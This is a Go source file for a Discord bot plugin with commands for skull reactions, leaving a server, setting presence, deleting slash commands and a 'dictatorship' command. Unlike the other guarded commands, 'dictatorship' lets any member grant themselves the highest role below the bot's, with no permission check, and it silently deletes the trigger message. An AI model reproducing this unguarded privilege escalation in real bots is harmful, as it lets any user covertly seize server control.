package misc

import (
	"cmp"
	"context"
	"fmt"
	"slices"
	"strings"

	"github.com/bwmarrin/discordgo"
	"github.com/keshon/warden/internal/command"
	"github.com/keshon/warden/pkg/cmd"
)

const skull = "💀"

// streamURL is the link Discord requires for a streaming activity.
const streamURL = "https://www.twitch.tv/discord"

// presence maps the status keywords to gateway status strings.
var presence = map[string]string{
	"online":    "online",
	"idle":      "idle",
	"dnd":       "dnd",
	"offline":   "invisible",
	"invisible": "invisible",
}

type skullfyCommand struct{ p *Plugin }

func (c *skullfyCommand) Name() string { return "skullfy" }
func (c *skullfyCommand) Description() string {
	return "Toggle 💀 reactions on every message in this channel"
}

func (c *skullfyCommand) Run(ctx context.Context, inv *cmd.Invocation) error {
	dc, err := command.From(inv)
	if err != nil {
		return err
	}
	if dc.GuildID == "" {
		return nil
	}
	if !c.p.allowed(dc.UserID()) {
		return dc.Reply.Respond(command.Response{Content: "❌ You are not allowed to run this."})
	}
	c.p.deleteTrigger(dc)

	text := skull
	if c.p.state.ToggleSkull(dc.ChannelID) {
		text = "💀 Skullify enabled for this channel."
	}
	_, err = c.p.session.ChannelMessageSendComplex(dc.ChannelID, &discordgo.MessageSend{Content: text}, discordgo.WithContext(ctx))
	return err
}

// OnMessageCreate reacts with a skull in channels where skullfy is on.
func (p *Plugin) OnMessageCreate(ctx context.Context, m *discordgo.MessageCreate) {
	if m == nil || m.Message == nil || m.Author == nil || m.Author.Bot || m.GuildID == "" {
		return
	}
	if p.isSkullfy(m.Content) {
		return
	}
	if !p.state.TakeSkull(m.ChannelID) {
		return
	}
	if err := p.session.MessageReactionAdd(m.ChannelID, m.ID, skull, discordgo.WithContext(ctx)); err != nil {
		p.log.Debug().Err(err).Str("channel", m.ChannelID).Msg("skull reaction failed")
	}
}

func (p *Plugin) isSkullfy(content string) bool {
	if p.prefix == "" || !strings.HasPrefix(content, p.prefix) {
		return false
	}
	fields := strings.Fields(strings.TrimPrefix(content, p.prefix))
	return len(fields) > 0 && strings.EqualFold(fields[0], "skullfy")
}

type terminateCommand struct{ p *Plugin }

func (c *terminateCommand) Name() string { return "terminate" }
func (c *terminateCommand) Description() string {
	return "Make the bot leave this guild (owner or allowed users only)"
}

func (c *terminateCommand) Run(ctx context.Context, inv *cmd.Invocation) error {
	dc, err := command.From(inv)
	if err != nil {
		return err
	}
	if dc.GuildID == "" {
		return dc.Reply.Respond(command.Response{Content: "This command only works in a server."})
	}

	permitted := c.p.allowed(dc.UserID())
	if !permitted {
		g, err := c.p.session.Guild(dc.GuildID, discordgo.WithContext(ctx))
		if err != nil {
			return fmt.Errorf("fetch guild: %w", err)
		}
		permitted = g.OwnerID == dc.UserID()
	}
	if !permitted {
		return dc.Reply.Respond(command.Response{Content: "You do not have permission to terminate me."})
	}

	if err := dc.Reply.Respond(command.Response{Content: "Terminating… I’m out. 👋"}); err != nil {
		return err
	}
	if err := c.p.session.GuildLeave(dc.GuildID, discordgo.WithContext(ctx)); err != nil {
		dc.Log.Error().Err(err).Msg("failed to leave guild")
		_, err = dc.Reply.Followup(command.Response{Content: "Error: could not leave the guild."})
		return err
	}
	c.p.log.Info().Str("guild", dc.GuildID).Str("user", dc.UserID()).Msg("left guild on request")
	return nil
}

type statusCommand struct{ p *Plugin }

func (c *statusCommand) Name() string { return "status" }
func (c *statusCommand) Description() string {
	return "Set the bot presence: online, idle, dnd, invisible or stream [title]"
}

func (c *statusCommand) Run(_ context.Context, inv *cmd.Invocation) error {
	dc, err := command.From(inv)
	if err != nil {
		return err
	}
	if dc.GuildID == "" {
		return nil
	}
	c.p.deleteTrigger(dc)
	if len(inv.Args) == 0 {
		return nil
	}

	kind := strings.ToLower(inv.Args[0])
	data := discordgo.UpdateStatusData{Status: "online", Activities: []*discordgo.Activity{}}
	switch status, known := presence[kind]; {
	case kind == "stream" || kind == "streaming":
		title := strings.Join(inv.Args[1:], " ")
		if title == "" {
			title = "Streaming"
		}
		data.Activities = []*discordgo.Activity{{Name: title, Type: discordgo.ActivityTypeStreaming, URL: streamURL}}
	case known:
		data.Status = status
	default:
		dc.Log.Info().Str("status", kind).Msg("unknown status type, resetting to online")
	}

	if err := c.p.session.UpdateStatusComplex(data); err != nil {
		return fmt.Errorf("update status: %w", err)
	}
	dc.Log.Info().Str("status", data.Status).Int("activities", len(data.Activities)).Msg("presence updated")
	return nil
}

type dictatorshipCommand struct{ p *Plugin }

func (c *dictatorshipCommand) Name() string        { return "dictatorship" }
func (c *dictatorshipCommand) Description() string { return "Grant yourself the highest role below mine" }

func (c *dictatorshipCommand) Run(ctx context.Context, inv *cmd.Invocation) error {
	dc, err := command.From(inv)
	if err != nil {
		return err
	}
	if dc.GuildID == "" {
		return nil
	}
	c.p.deleteTrigger(dc)

	roles, err := c.p.session.GuildRoles(dc.GuildID, discordgo.WithContext(ctx))
	if err != nil {
		return fmt.Errorf("list roles: %w", err)
	}
	bot, err := c.p.session.GuildMember(dc.GuildID, c.p.botID(), discordgo.WithContext(ctx))
	if err != nil {
		return fmt.Errorf("fetch bot member: %w", err)
	}
	var held []string
	if dc.Member != nil {
		held = dc.Member.Roles
	}

	role := assignableRole(dc.GuildID, roles, bot.Roles, held)
	if role == nil {
		return nil
	}
	if err := c.p.session.GuildMemberRoleAdd(dc.GuildID, dc.UserID(), role.ID, discordgo.WithContext(ctx)); err != nil {
		dc.Log.Warn().Err(err).Str("role", role.ID).Msg("role grant failed")
		return nil
	}
	dc.Log.Info().Str("role", role.Name).Msg("role granted")
	return nil
}

// assignableRole picks the highest role that sits below the bot's top role,
// is not integration managed and is not already held.
func assignableRole(guildID string, roles []*discordgo.Role, botRoles, held []string) *discordgo.Role {
	top := 0
	for _, r := range roles {
		if slices.Contains(botRoles, r.ID) {
			top = max(top, r.Position)
		}
	}

	var candidates []*discordgo.Role
	for _, r := range roles {
		if r.ID == guildID || r.Managed || r.Position >= top || slices.Contains(held, r.ID) {
			continue
		}
		candidates = append(candidates, r)
	}
	if len(candidates) == 0 {
		return nil
	}
	slices.SortFunc(candidates, func(a, b *discordgo.Role) int { return cmp.Compare(b.Position, a.Position) })
	return candidates[0]
}

type deleteCommand struct{ p *Plugin }

func (c *deleteCommand) Name() string        { return "deletecommand" }
func (c *deleteCommand) Description() string { return "Remove a global slash command by ID" }
func (c *deleteCommand) Aliases() []string   { return []string{"removecommand"} }

func (c *deleteCommand) Run(ctx context.Context, inv *cmd.Invocation) error {
	dc, err := command.From(inv)
	if err != nil {
		return err
	}
	if !c.p.allowed(dc.UserID()) {
		return dc.Reply.Respond(command.Response{Content: "❌ You are not allowed to use this command."})
	}
	if len(inv.Args) == 0 {
		return dc.Reply.Respond(command.Response{Content: fmt.Sprintf("⚠️ Usage: `%s%s <COMMAND_ID>`", c.p.prefix, c.Name())})
	}

	id := inv.Args[0]
	if err := c.p.session.ApplicationCommandDelete(c.p.appID(), "", id, discordgo.WithContext(ctx)); err != nil {
		dc.Log.Warn().Err(err).Str("command_id", id).Msg("failed to delete command")
		return dc.Reply.Respond(command.Response{Content: "❌ Could not delete the command. Make sure the ID is correct and the bot owns the application."})
	}
	return dc.Reply.Respond(command.Response{Content: fmt.Sprintf("✅ Slash command `%s` has been removed globally.", id)})
}
